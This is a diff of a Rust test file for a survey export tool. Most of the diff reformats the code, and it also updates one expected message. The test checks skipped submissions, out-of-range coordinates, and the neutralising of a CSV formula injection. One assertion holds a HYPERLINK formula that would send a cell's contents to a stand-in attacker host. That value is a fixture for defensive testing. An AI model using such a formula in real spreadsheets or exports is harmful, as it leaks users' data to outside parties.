@@ -64,7 +64,10 @@ fn store_documents(data: &Path) -> Stored {
     let mut impossible = Vec::new();
     for (latitude, accuracy) in [(1000.0, 4.5), (f64::NAN, 4.5), (-0.2299, -3.0)] {
         let (id, _) = phone.fill("Pedro");
-        writes.push((id.clone(), with_stored_point(&located(&id), latitude, accuracy)));
+        writes.push((
+            id.clone(),
+            with_stored_point(&located(&id), latitude, accuracy),
+        ));
         impossible.push(id);
     }
     let draft = phone
@@ -146,13 +149,19 @@ fn every_export_writes_the_good_submissions_and_names_what_it_left_out() {
     for format in ["csv", "geojson", "json"] {
         let printed = export(data.path(), format, &out.path().join(format));
         let said = |line: &str| {
-            assert!(printed.contains(line), "{format}: no `{line}` in:\n{printed}");
+            assert!(
+                printed.contains(line),
+                "{format}: no `{line}` in:\n{printed}"
+            );
         };
         said(&format!(
             "skipped {}: a submission of form `draft_census` version `1`",
             stored.unpublished
         ));
-        said(&format!("skipped {}: not a submission", stored.not_a_submission));
+        said(&format!(
+            "skipped {}: not a submission: the document has no meta.id",
+            stored.not_a_submission
+        ));
         said(&format!(
             "no location for {} location: latitude 1000 is outside -90..90",
             stored.impossible[0]
@@ -169,14 +178,20 @@ fn every_export_writes_the_good_submissions_and_names_what_it_left_out() {
     }
 
     let csv = std::fs::read_to_string(out.path().join("csv/safety_walk.csv")).unwrap();
-    assert_eq!(csv.lines().count(), 1 + 4, "a header and the four readable rows: {csv}");
+    assert_eq!(
+        csv.lines().count(),
+        1 + 4,
+        "a header and the four readable rows: {csv}"
+    );
     let good = csv_row(&csv, &stored.good);
     assert_eq!(
-        good["who-respondent"],
-        "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2)\"",
+        good["who-respondent"], "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2)\"",
         "the formula is neutralised, then quoted"
     );
-    assert_eq!(good["location-Longitude"], "-78.5", "a number, not prefixed");
+    assert_eq!(
+        good["location-Longitude"], "-78.5",
+        "a number, not prefixed"
+    );
     assert_eq!(good["location-Longitude"].parse::<f64>().unwrap(), -78.5);
     for id in &stored.impossible {
         let row = csv_row(&csv, id);
@@ -199,15 +214,17 @@ fn every_export_writes_the_good_submissions_and_names_what_it_left_out() {
             .map(|f| f["geometry"].clone())
             .unwrap_or_else(|| panic!("no feature for {id}"))
     };
-    assert_eq!(geometry(&stored.good)["coordinates"], serde_json::json!([-78.5, -0.2299]));
+    assert_eq!(
+        geometry(&stored.good)["coordinates"],
+        serde_json::json!([-78.5, -0.2299])
+    );
     for id in &stored.impossible {
         assert_eq!(geometry(id), Json::Null, "{id}");
     }
 
-    let json: Json = serde_json::from_slice(
-        &std::fs::read(out.path().join("json/safety_walk.json")).unwrap(),
-    )
-    .unwrap();
+    let json: Json =
+        serde_json::from_slice(&std::fs::read(out.path().join("json/safety_walk.json")).unwrap())
+            .unwrap();
     assert_eq!(json["submissions"].as_array().unwrap().len(), 4);
     assert!(!out.path().join("csv/draft_census.csv").exists());
 }
